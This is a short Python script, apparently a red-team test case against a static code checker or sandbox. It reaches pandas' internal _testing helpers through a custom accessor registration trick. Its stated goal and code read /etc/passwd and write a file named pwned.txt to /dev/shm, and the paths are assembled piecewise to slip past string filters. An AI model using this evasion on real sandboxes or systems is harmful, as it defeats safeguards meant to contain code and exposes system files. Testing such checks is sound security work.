# source: pandas docs "Registering custom accessors" (CachedAccessor.__get__(None, cls) returns the accessor class); the README's list of refusals in the static check class-as-value
# family: class held as a value through pandas accessor registration (pd.DataFrame.<name> is the script class) -> method called with pandas module as self
# goal: pandas._testing -> decompress_file reads /etc/passwd, write_to_compressed writes /dev/shm/pwned.txt
import pandas as pd


class Cfg:
    def __init__(self):
        self._testing = None

    def helper(self):
        return self._testing


@pd.api.extensions.register_dataframe_accessor("cfgacc")
class Acc(Cfg):
    def __init__(self, obj):
        self._testing = obj


K = pd.DataFrame.cfgacc
t = K.helper(pd)
print(t)
p = "/".join(["", "etc", "passwd"])
with t.decompress_file(p, None) as fh:
    print(fh.read().decode()[:300])
t.write_to_compressed("gzip", "/".join(["", "dev", "shm", "pwned.txt"]), b"written by script")
with t.decompress_file("/".join(["", "dev", "shm", "pwned.txt"]), "gzip") as fh:
    print(fh.read())
